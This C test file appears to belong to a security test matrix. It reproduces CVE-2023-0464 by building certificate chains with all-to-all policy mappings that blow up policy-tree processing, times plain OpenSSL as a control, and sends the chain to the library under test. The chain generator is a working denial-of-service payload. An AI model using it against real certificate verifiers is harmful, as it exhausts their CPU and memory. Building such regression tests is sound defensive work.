/* SPDX-License-Identifier: Apache-2.0 */
/*
 * T05: policy trees (CVE-2023-0464). Each issuer of a chain has the same policies and maps each of
 * them to all: whoever follows RFC 5280, 6.1.3, to the letter makes a tree that grows by that
 * factor with each certificate, of a chain of a few KB. Somebody must hold an issuer's key for it.
 */
#include "matrix.h"

#include "support/cost.h"

#include <openssl/err.h>
#include <openssl/x509v3.h>
#include <stdio.h>
#include <stdlib.h>

enum { POLICIES_MOST = 24, TEXT = 16384 };

struct tree {
    unsigned policies; /* in each certificate */
    unsigned issuers;  /* between leaf and root */
};

static const struct tree trees[] = {
    {22, 2}, /* as long as a chain may be here, and nearly as large */
    {8, 6},  /* longer, and as large */
};
/* The most that OpenSSL lets grow since its repair is 1,000 nodes. */
static const struct tree small = {9, 2};

static void put_policies(char *ret, unsigned n)
{
    size_t used = 0;

    for (unsigned i = 0; i < n; i++)
        used += (size_t)snprintf(ret + used, TEXT - used, "%s1.3.%u", i == 0 ? "" : ",", i);
}

static void put_mappings(char *ret, unsigned n)
{
    size_t used = 0;

    for (unsigned i = 0; i < n * n; i++)
        used += (size_t)snprintf(ret + used, TEXT - used, "%s1.3.%u:1.3.%u", i == 0 ? "" : ",",
                                 i / n, i % n);
}

static const struct pki_cert *grow(const struct tree *tree)
{
    static char policies[TEXT], mappings[TEXT];
    struct pki *pki = stage_pki();
    const struct pki_options issuing = {.is_ca = true,
                                        .policies = policies,
                                        .policy_mappings = mappings},
                             leaf = {.policies = policies};
    const struct pki_cert *issuer = pki_root(pki);
    char name[32];

    put_policies(policies, tree->policies);
    put_mappings(mappings, tree->policies);
    for (unsigned i = 0; i < tree->issuers; i++) {
        (void)snprintf(name, sizeof(name), "issuer %u", i);
        issuer = pki_make(pki, issuer, name, &issuing);
    }
    return pki_make(pki, issuer, "attacker-service", &leaf);
}

/* Below the root one for each policy; below each of these as many, and so on to the leaf. */
static unsigned long nodes_of(const struct tree *tree)
{
    unsigned long level = tree->policies, all = 1 + level;

    for (unsigned i = 0; i < tree->issuers; i++) {
        level *= tree->policies;
        all += level;
    }
    return all;
}

static size_t bytes_of(const struct pki_cert *cert)
{
    struct neo_bytes chain[8];
    size_t n = pki_chain(cert, false, chain), len = 0;

    for (size_t i = 0; i < n; i++)
        len += chain[i].len;
    return len;
}

static X509 *x509_of(struct neo_bytes der)
{
    const uint8_t *at = der.at;

    return d2i_X509(NULL, &at, (long)der.len);
}

/* OpenSSL's judgement of a chain, X509_V_OK or what is wrong, and what it cost, ms. */
static int judge(const struct pki_cert *cert, unsigned long flags, double *ret_cost)
{
    struct neo_bytes chain[8];
    size_t n = pki_chain(cert, false, chain);
    X509_STORE *store = X509_STORE_new();
    X509_STORE_CTX *ctx = X509_STORE_CTX_new();
    STACK_OF(X509) *sent = sk_X509_new_null();
    X509 *root = x509_of(pki_der(pki_root(stage_pki()))), *leaf = x509_of(chain[0]);

    for (size_t i = 1; i < n; i++)
        (void)sk_X509_push(sent, x509_of(chain[i]));
    if (X509_STORE_add_cert(store, root) != 1 || X509_STORE_CTX_init(ctx, store, leaf, sent) != 1)
        exit(2);
    (void)X509_VERIFY_PARAM_set_flags(X509_STORE_CTX_get0_param(ctx), flags);
    double before = cost_now();
    (void)X509_verify_cert(ctx);
    *ret_cost = cost_now() - before;
    int reason = X509_STORE_CTX_get_error(ctx);
    ERR_clear_error();
    X509_STORE_CTX_free(ctx);
    sk_X509_pop_free(sent, X509_free);
    X509_free(leaf);
    X509_free(root);
    X509_STORE_free(store);
    return reason;
}

/*
 * Plain OpenSSL that looks at policies. A tree below its limit grows, and costs; of a larger one it
 * is the limit alone that is not let grow, where OpenSSL has it.
 */
static void grow_in_openssl(struct report *r)
{
    double without = 0, with = 0, large = 0;
    const struct pki_cert *cert = grow(&small);

    bool taken = judge(cert, 0, &without) == X509_V_OK &&
                 judge(cert, X509_V_FLAG_POLICY_CHECK, &with) == X509_V_OK;
    int reason = judge(grow(&trees[0]), X509_V_FLAG_POLICY_CHECK, &large);
    r->through = taken && (reason == X509_V_ERR_OUT_OF_MEM || large > 10 * with);
    attack_say(r, "plain OpenSSL: %lu nodes cost %.1f ms, not %.1f; more: %s", nodes_of(&small),
               with, without, X509_verify_cert_error_string(reason));
}

void policy_trees(struct report *r)
{
    char said[64] = "", sizes[64] = "";

    if (r->control) {
        grow_in_openssl(r);
        return;
    }
    for (size_t i = 0; i < NEO_COUNT(trees); i++) {
        struct raw_options tls = stage_tls();
        size_t used = strlen(sizes);
        tls.cert = grow(&trees[i]);
        attack_call_as(&tls, said, sizeof(said));
        (void)snprintf(sizes + used, sizeof(sizes) - used, "%s%lu in %zu KiB", i == 0 ? "" : ", ",
                       nodes_of(&trees[i]), bytes_of(tls.cert) / KIB);
    }
    r->through = stage_handlers() > 0;
    attack_say(r, "nodes: %s; alerts %s", sizes, said);
}
